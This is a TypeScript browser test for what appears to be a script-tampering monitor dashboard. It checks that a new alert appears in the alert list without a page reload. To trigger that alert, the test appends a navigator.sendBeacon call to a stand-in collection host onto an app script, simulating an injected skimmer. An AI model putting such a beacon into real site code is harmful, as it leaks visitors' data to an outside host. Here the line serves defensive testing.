// Dashboard in real Chromium: the overview and the alert list show a new alert by themselves, without a reload.

import assert from 'node:assert/strict';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
import { startDashboard, type DashboardHarness } from './harness.js';

describe('live pages', () => {
  let h: DashboardHarness;
  beforeAll(async () => {
    h = await startDashboard();
    await h.scan(healthyShop());
    await h.store.alerts.approveAll({ by: 'alice', note: 'baseline', at: new Date().toISOString() });
  });
  afterAll(async () => { await h?.close(); });

  it('answers the newest alert id, and the alert list reloads itself when an alert is raised', async () => {
    assert.deepEqual(await (await fetch(`${h.url}api/alerts/latest`)).json(), { latestId: null });
    const page = await h.browser.newPage();
    await page.goto(`${h.url}alerts`);
    assert.equal(await page.$$eval('td.summary a', (as) => as.length), 0);
    // The page says which alert was newest when it was made, so one raised before its first check still reloads it.
    assert.equal(await page.$eval('body', (b) => b.dataset.latest), 'none');
    const tampered = script({ kind: 'external', url: APP.url, body: `${APP.body}\nnavigator.sendBeacon("https://collect.example/c", "x");` });
    const { newAlerts } = await h.scan(pageCapture([tampered, LIB, INLINE_A, INLINE_B]));
    const id = newAlerts[0]!.id;
    assert.deepEqual(await (await fetch(`${h.url}api/alerts/latest`)).json(), { latestId: Math.max(...newAlerts.map((a) => a.id)) });
    await expect.poll(() => page.$$eval('td.summary a', (as) => as.map((a) => a.getAttribute('href'))), { timeout: 20_000 }).toContain(`/alerts/${id}`);
    await page.close();
  });
});
